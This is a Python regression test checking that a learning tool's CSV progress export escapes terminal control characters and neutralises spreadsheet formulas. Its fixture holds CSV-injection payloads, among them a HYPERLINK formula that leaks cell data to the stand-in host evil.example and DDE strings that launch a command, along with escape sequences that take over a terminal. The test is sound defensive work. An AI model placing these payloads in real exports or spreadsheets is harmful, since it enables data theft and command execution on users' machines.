"""`ringbook progress export --format csv` on learner text an attacker chose (issue 42, item 10): an
answer is whatever was typed, or whatever an imported file held, so the CSV written for a spreadsheet
must neither send escape sequences to the terminal it is printed on nor hand a spreadsheet a formula."""

from __future__ import annotations

import csv
import io

from tests.helpers import ringbook_in_process as run
from tui.progress.store import ProgressStore

HOSTILE = {
    "0.1": '=HYPERLINK("http://evil.example/?"&A1,"1.75")',
    "0.2": "+cmd|' /C calc'!A0",
    "0.3": "-2+3+cmd|' /C calc'!A0",
    "0.4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "0.5": "\tab=1+1",
    "0.6": "\x1b]0;owned\x07\x1b[2J70",          # retitle the window, clear the screen
    "0.7": "\x9b31mred\u202eevil",               # a C1 CSI and a bidi override
}


def test_csv_export_escapes_control_characters_and_guards_formulas(tmp_path, capsys):
    """Found: the CSV carried ESC, BEL, C1 and bidi characters raw (printing it cleared the screen and
    retitled the window) and cells starting with = + - @ as a spreadsheet would run them; the class
    report's CSV quoted those, the learner's own export did not."""
    data = tmp_path / "learner"
    store = ProgressStore.open(data)
    for exercise_id, answer in HOSTILE.items():
        store.record_attempt(exercise_id, answer, "incorrect")
    store.record_attempt("1.1", "def f(x):\n    return x", "incorrect")   # honest code keeps its lines
    store.record_attempt("1.2", "1.75", "correct")
    store.close()

    code, out, err = run(capsys, "--data-dir", data, "progress", "export", "--format", "csv")
    assert (code, err) == (0, "")
    assert not any(ch in out for ch in "\x1b\x07\x9b\u202e\r")
    rows = list(csv.DictReader(io.StringIO(out)))
    answers = {row["exercise_id"]: row["answer"] for row in rows}
    assert answers == {
        "0.1": "'" + HOSTILE["0.1"], "0.2": "'" + HOSTILE["0.2"], "0.3": "'" + HOSTILE["0.3"],
        "0.4": "'" + HOSTILE["0.4"], "0.5": "'\tab=1+1", "0.6": "\\x1b]0;owned\\x07\\x1b[2J70",
        "0.7": "\\x9b31mred\\u202eevil", "1.1": "def f(x):\n    return x", "1.2": "1.75"}
    for row in rows:   # no text cell of any column starts a formula
        assert all(not value[:1] or value[0] not in "=+-@\t\r" for value in row.values()), row
    assert {row["utc_offset_minutes"] for row in rows} == {str(rows[0]["utc_offset_minutes"])}

